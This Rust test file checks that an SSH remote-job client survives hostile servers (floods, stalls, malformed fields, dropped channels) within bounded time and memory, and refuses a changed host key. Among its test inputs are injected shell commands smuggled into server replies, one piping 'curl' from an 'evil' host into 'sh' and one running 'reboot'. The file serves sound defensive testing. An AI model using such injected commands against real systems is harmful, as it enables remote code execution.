//! Hosts that mean harm: what they do costs bounded time and memory, and ends in the right error.
#![allow(missing_docs, clippy::unwrap_used, clippy::panic)]

mod hostile;
mod lab_target;

use std::path::Path;
use std::time::{Duration, Instant};

use hostile::Act::{Await, Close, Cut, ExitForever, Forever, Read, Repeat, Say, Wait};
use hostile::{Asked, HostileServer, Takes, Trick};
use lab_target::{bare_target, transport};
use phalanx_remote::{
    ConnectError, Connection, Content, FileToPut, HolderWords, JobError, JobId, ProbeError,
    PutError, RequestError, Script, SshTarget, Transport, parse_result,
};
use tokio::time::timeout;

/// How long nothing may come or go.
const STALL: Duration = Duration::from_secs(3);
/// How long any of this may take: a cancel is given 20 s beyond that by the host's own limits.
const WITHIN: Duration = Duration::from_secs(60);
/// So much memory all tricks together may cost, both sides of the connections.
const MEMORY: u64 = 150 << 20;
const FILE: u64 = 4 << 20;

/// How a request ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Ends {
    Well,
    /// The host says what makes no sense: never tried again.
    Protocol,
    /// No sign of life: tried again for a while.
    Stalled,
    /// The connection or the channel is gone: tried again for a while.
    Lost,
    /// The second or the third, whichever comes first.
    GivenUp,
}

const SOME: Takes = Takes::About(32 << 10);
const NONE: Takes = Takes::About(1);
const JUNK: &str = "all work and no play makes a host a dull host\n";

/// A new trick is a line: its name, what it waits for, how much it reads, what it does, what comes of it.
#[rustfmt::skip]
const TRICKS: &[(&str, Asked, Takes, &[hostile::Act], Ends)] = &[
    ("writes where it should read a file", Asked::Put, SOME, &[Read, Say("@{n} head\n\n@{n} want\n"), Forever(JUNK)], Ends::Protocol),
    ("writes byte by byte where it should read a file", Asked::Put, SOME, &[Read, Say("@{n} head\n\n@{n} want\n"), Forever("x")], Ends::GivenUp),
    ("writes where it should read a request", Asked::Any, NONE, &[Forever(JUNK)], Ends::Protocol),
    ("tells exit statuses where it should read", Asked::Any, NONE, &[ExitForever], Ends::GivenUp),
    ("reads no request", Asked::Any, NONE, &[Wait], Ends::Stalled),
    ("reads no file", Asked::Put, SOME, &[Read, Say("@{n} head\n\n@{n} want\n"), Wait], Ends::Stalled),
    ("reads a file and says nothing", Asked::Put, Takes::All, &[Read, Say("@{n} head\n\n@{n} want\n"), Wait], Ends::Stalled),
    ("says nothing at all", Asked::Boot, Takes::All, &[Read, Wait], Ends::Stalled),
    ("takes a cancel and says nothing", Asked::Cancel, Takes::All, &[Read, Say("@{n} head\n"), Wait], Ends::Stalled),
    ("takes a cancel and says other things", Asked::Cancel, Takes::All, &[Read, Say("@{n} head\n"), Forever(JUNK)], Ends::Stalled),
    ("takes a reboot and says other things", Asked::Reboot, Takes::All, &[Read, Say("@{n} head\n"), Forever(JUNK)], Ends::Well),
    ("says other things instead of an answer", Asked::Hold, Takes::All, &[Read, Forever(JUNK)], Ends::Stalled),
    ("begins an answer that has no end", Asked::Beat, Takes::All, &[Read, Say("@{n} head "), Forever("xx")], Ends::Protocol),
    ("begins a result that has no end", Asked::Facts, Takes::All, &[Read, Say("@{n} head boot=b.1\n\n@{n} end rc=0\n"), Forever("changed\tit\n")], Ends::Protocol),
    ("tells 400 000 problems", Asked::Facts, Takes::All, &[Read, Say("@{n} head boot=b.1\n\n@{n} end rc=0\n"), Repeat(400_000, "problem\tp\tnote\tn\t\n"), Say("\n@{n} done\n")], Ends::Protocol),
    ("tells 20 000 problems and ends", Asked::Facts, Takes::All, &[Read, Say("@{n} head boot=b.1\n\n@{n} end rc=0\n"), Repeat(20_000, "problem\tp\tnote\tn{i}\t\n"), Say("\n@{n} done\n")], Ends::Well),
    ("is done with files that nobody sent", Asked::Put, Takes::All, &[Read, Say("@{n} head\n"), Forever("\n@{n} file written\n")], Ends::Protocol),
    ("wants a file that it has", Asked::Put, Takes::All, &[Read, Say("@{n} head\n\n@{n} want\n"), Await(3 << 20), Forever("\n@{n} want\n")], Ends::Protocol),
    ("wants a file again and again", Asked::Put, Takes::All, &[Read, Say("@{n} head\n"), Forever("\n@{n} want\n")], Ends::Protocol),
    ("has an exit status that is none", Asked::Facts, Takes::All, &[Read, Say("@{n} head boot=b.1\n\n@{n} end rc=4294967296\n\n@{n} done\n")], Ends::Protocol),
    ("has a number that is none", Asked::Hold, Takes::All, &[Read, Say("@{n} head held fence=18446744073709551615\n")], Ends::Protocol),
    ("has a boot of 5000 letters", Asked::Boot, Takes::All, &[Read, Say("@{n} head boot="), Repeat(5_000, "bb"), Say("\n")], Ends::Protocol),
    ("has been up since before there were computers", Asked::Facts, Takes::All, &[Read, Say("@{n} head boot=b.1\n\n@{n} end rc=0 from=1.00 to=18446744073709551.61\n\n@{n} done\n")], Ends::Well),
    ("names a job that is a command", Asked::Hold, Takes::All, &[Read, Say("@{n} head jobs x`;curl${IFS}evil|sh;`.w.h.1\n")], Ends::Protocol),
    ("names a run that is a command", Asked::Hold, Takes::All, &[Read, Say("@{n} head busy process=p beats=1 run=x`;reboot;` owner=o machine=m since=s\n")], Ends::Protocol),
    ("answers with another mark", Asked::Boot, Takes::All, &[Read, Say("@0123456789abcdef0123456789abcdef head boot=b.1\n"), Wait], Ends::Stalled),
    ("closes the channel", Asked::Boot, Takes::All, &[Read, Close], Ends::Lost),
    ("closes the channel in the middle", Asked::Cancel, Takes::All, &[Read, Say("@{n} head\n"), Close], Ends::Lost),
    ("cuts the connection in the middle", Asked::Put, Takes::All, &[Read, Say("@{n} head\n\n@{n} want\n"), Cut, Wait], Ends::Lost),
];

fn target(server: &HostileServer) -> SshTarget {
    SshTarget {
        port: server.address.port(),
        user: "root".into(),
        keys: vec![server.key.clone()],
        known_hosts: vec![server.folder().join("known_hosts")],
        stall_timeout: STALL,
        ..bare_target(&server.address.ip().to_string())
    }
}

fn of_request(error: RequestError) -> Ends {
    match error {
        RequestError::Lost(_) => Ends::Lost,
        RequestError::Stalled(_) => Ends::Stalled,
        RequestError::Protocol(_) => Ends::Protocol,
        other => panic!("{other}"),
    }
}

fn of_probe(error: ProbeError) -> Ends {
    match error {
        ProbeError::Request(error) => of_request(error),
        other => panic!("{other}"),
    }
}

fn of_job(error: JobError) -> Ends {
    match error {
        JobError::Request(error) => of_request(error),
        other => panic!("{other}"),
    }
}

fn of_put(error: PutError) -> Ends {
    match error {
        PutError::Request(error) => of_request(error),
        other => panic!("{other}"),
    }
}

/// Asks for that, and says how it ended.
async fn ask(connection: &dyn Connection, asked: Asked, file: &Path) -> Ends {
    let me = HolderWords {
        process: "p".into(),
        run: "r1".into(),
        ..HolderWords::default()
    };
    let id = JobId::new("r1", "work", "w1", 1);
    let done = |well: Result<(), Ends>| well.err().unwrap_or(Ends::Well);
    match asked {
        Asked::Any | Asked::Boot => done(
            connection
                .boot_identity()
                .await
                .map(drop)
                .map_err(of_request),
        ),
        Asked::Hold => done(connection.hold(&me, None).await.map(drop).map_err(of_job)),
        Asked::Beat => done(connection.beat(&me, 1).await.map_err(of_job)),
        Asked::Release => done(connection.release(1).await.map_err(of_job)),
        Asked::Collect => done(connection.collect_jobs("r1", 1).await.map_err(of_job)),
        Asked::Cancel => {
            let cancelled = connection.cancel_job(&id, 1, Duration::ZERO).await;
            done(cancelled.map_err(of_job))
        }
        Asked::Reboot => done(connection.request_reboot(1).await.map_err(of_request)),
        Asked::Put => {
            let file = FileToPut {
                path: "/x".into(),
                content: Content::Local(file.to_owned()),
                mode: 0o600,
                owner: None,
            };
            let put = connection.put_all(&[file], 1, &mut Vec::new()).await;
            done(put.map(drop).map_err(of_put))
        }
        Asked::Facts | Asked::Probe | Asked::Job => {
            let script = Script::default();
            match connection.probe(&script, &mut Vec::new()).await {
                Ok(end) => {
                    assert!(end.took.is_none_or(|took| took < Duration::from_secs(60)));
                    assert!(parse_result(&end.result).problems.len() <= 303);
                    Ends::Well
                }
                Err(error) => of_probe(error),
            }
        }
    }
}

/// The most memory that this process has had, in bytes.
fn most_memory() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status
        .lines()
        .find(|line| line.starts_with("VmHWM"))
        .unwrap();
    let kib: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
    kib << 10
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_trick_costs_bounded_time_and_memory() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("file");
    std::fs::File::create(&file).unwrap().set_len(FILE).unwrap();
    let before = most_memory();
    let tricks = TRICKS.iter().map(|(name, when, takes, acts, ends)| {
        let file = file.clone();
        // A task each, as every host of a run has: none waits for another's turn.
        tokio::spawn(async move {
            let trick = Trick {
                name,
                when: *when,
                acts,
            };
            let server = HostileServer::start(&[trick], *takes).await;
            let connection = transport(target(&server)).connect("host").await.unwrap();
            let began = Instant::now();
            let ended = timeout(WITHIN, ask(&*connection, *when, &file)).await.ok();
            let took = began.elapsed();
            connection.close().await;
            let is_right = match ends {
                Ends::GivenUp => matches!(ended, Some(Ends::Protocol | Ends::Stalled)),
                one => ended == Some(*one),
            };
            (!is_right).then(|| format!("{name}: {ended:?} and not {ends:?}, after {took:?}"))
        })
    });
    let ended = futures::future::join_all(tricks).await;
    let wrong: Vec<String> = ended.into_iter().filter_map(Result::unwrap).collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let grown = most_memory() - before;
    assert!(grown < MEMORY, "{} MiB", grown >> 20);
}

/// Where known_hosts keeps nothing, the key is known for as long as the run goes on.
#[tokio::test]
async fn another_host_key_on_the_next_connection_is_refused() {
    let server = HostileServer::start_with(&[], Takes::All, 2).await;
    let target = SshTarget {
        known_hosts: vec!["/dev/null".into()],
        ..target(&server)
    };
    let transport = transport(target);
    let first = transport.connect("host").await.unwrap();
    assert_eq!(first.greeting().notices.len(), 1);
    first.close().await;
    let second = transport.connect("host").await.err().unwrap();
    assert!(
        matches!(second, ConnectError::HostKeyOther { .. }),
        "{second:?}"
    );
    assert!(!second.is_transient());
    // The third connection is shown the first key again.
    let third = transport.connect("host").await.unwrap();
    assert_eq!(third.greeting().notices.len(), 0, "it is not new any more");
}
